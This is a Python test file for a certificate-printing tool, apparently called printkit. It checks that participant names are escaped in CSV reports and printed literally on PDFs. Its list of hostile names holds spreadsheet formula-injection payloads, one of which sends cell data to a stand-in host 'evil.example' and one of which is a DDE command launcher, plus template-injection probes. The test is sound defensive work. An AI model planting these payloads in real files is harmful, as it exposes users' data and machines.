"""Hostile names: every CSV printkit writes is safe to open in a spreadsheet, and the name
printed on the certificate is the participant's, unchanged and never run as template code."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from printkit.cli import main
from printkit.output import FORMULA_STARTS, spreadsheet_value
from tests.pdfcheck import page_texts

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed Name",
    "=cmd|' /C calc'!A0",
    "{{ 7*7 }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "Ada Lovelace",
]


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_hostile_names_in_report_and_manifest(tmp_path: Path) -> None:
    people = tmp_path / "people.csv"
    with people.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["name"])
        writer.writerows([[n] for n in HOSTILE] + [["=1+1"], [""]])  # a duplicate-free list
    out, split, report = tmp_path / "c.pdf", tmp_path / "split", tmp_path / "report.csv"
    code = main(["certificates", str(people), "--event", "Code Club", "--date", "2026-12-07",
                 "--split", str(split), "--report", str(report), "-o", str(out)])
    assert code == 0
    for path in (report, split / "manifest.csv", out.with_name("c.manifest.csv")):
        rows = _rows(path)
        for row in rows:
            for cell in row:
                assert not cell or cell[0] not in FORMULA_STARTS, (path.name, cell)
    # one report line per input row, names reading the same to a person
    report_rows = _rows(report)[1:]
    assert len(report_rows) == len(HOSTILE) + 2
    names = [spreadsheet_value(r[1]) for r in report_rows]
    assert names[: len(HOSTILE)] == [n.strip() for n in HOSTILE]  # names are trimmed
    assert report_rows[-1][2] == "refused"  # the empty name is reported, not dropped
    # the certificate prints the name as written: data, not a formula or template code
    pages = [" ".join(p.split()) for p in page_texts(out)]
    for name, page in zip(HOSTILE, pages, strict=False):
        assert " ".join(name.split()) in page
    assert "49" not in pages[HOSTILE.index("{{ 7*7 }}")]
    assert "looploop" not in " ".join(pages)
